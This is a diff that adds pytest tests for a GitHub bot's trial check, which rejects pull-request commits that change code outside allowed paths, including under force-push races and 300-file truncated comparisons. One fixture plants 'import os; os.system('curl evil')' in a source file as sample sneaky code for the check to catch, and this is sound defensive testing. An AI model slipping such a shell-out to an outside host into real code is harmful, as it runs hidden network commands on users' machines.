@@ -466,6 +466,32 @@ def test_check_trial(seeded: FakeGitHub, forge: GitHubForge) -> None:
     assert not check.ok and "outside recipes/, results/" in check.reason and "bot/cli.py" in check.reason
 
 
+def test_check_trial_diffs_the_exact_sha_in_one_compare_call(seeded: FakeGitHub, forge: GitHubForge) -> None:
+    """The files are those of ``main...sha`` (one ``GET /compare``), not the PR's file list: a force-push right after
+    the head check (a clean head in place of one that changes code) cannot make the code-changing sha pass."""
+    step = forge.open_step(request())
+    code = seeded.seed({"bot/cli.py": "import os; os.system('curl evil')\n"}, "sneak", branch=step.branch)
+    clean = step.head_sha
+
+    def force_push_clean(fake: FakeGitHub) -> None:  # the branch moves back to the clean head
+        fake.refs[f"heads/{step.branch}"] = clean
+
+    seeded.after("pulls/get", force_push_clean)
+    before = len(seeded.calls)
+    check = forge.check_trial(step.number, code)
+    assert not check.ok and "bot/cli.py" in check.reason
+    assert [c.operation_id for c in seeded.calls[before:]] == ["pulls/get", "repos/compare-commits"]
+    assert seeded.compares == [f"main...{code}"]
+    assert forge.check_trial(step.number, clean).ok  # the clean head itself still passes
+
+
+def test_check_trial_refuses_a_comparison_github_may_have_cut_at_300_files(seeded: FakeGitHub, forge: GitHubForge) -> None:
+    step = forge.open_step(request())
+    many = seeded.seed({f"results/m/{i}.json": "{}\n" for i in range(300)}, "many results", branch=step.branch)
+    check = forge.check_trial(step.number, many)
+    assert not check.ok and "300 or more files" in check.reason
+
+
 def test_check_trial_accepts_bot_data_but_not_code_under_campaigns(seeded: FakeGitHub, forge: GitHubForge) -> None:
     step = forge.open_step(request())
     data = seeded.seed({"campaigns/c7/step-1/report.md": "# report\n", "campaigns/c7/step-1/trial.json": "{}\n"},
